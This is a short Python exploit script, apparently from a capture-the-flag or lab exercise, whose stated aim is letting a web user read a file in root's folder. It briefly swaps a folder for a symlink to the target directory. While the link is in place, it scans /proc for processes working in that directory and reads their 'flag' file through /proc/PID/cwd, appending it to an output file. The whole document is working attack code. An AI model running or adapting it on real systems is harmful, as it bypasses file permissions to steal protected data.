"""The web user's program that looks into a folder of root's by the eyes of who works in it.

spy.py FOLDER TARGET FILE    FOLDER becomes a link to TARGET for two seconds; whatever
                             TARGET/flag says, seen through another process, goes to FILE
"""

import os
import sys
import time


def look(target: str, file: str) -> None:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink("/proc/%s/cwd" % pid) != target:
                continue
            with open("/proc/%s/cwd/flag" % pid, encoding="utf-8") as flag:
                text = flag.read()
        except OSError:
            continue
        with open(file, "a", encoding="utf-8") as out:
            out.write(text)


def main(folder: str, target: str, file: str) -> None:
    if os.path.islink(folder):
        return
    os.rename(folder, folder + ".kept")
    os.symlink(target, folder)
    end = time.monotonic() + 2
    while time.monotonic() < end:
        look(target, file)
    os.unlink(folder)
    os.rename(folder + ".kept", folder)


if __name__ == "__main__":
    main(*sys.argv[1:])
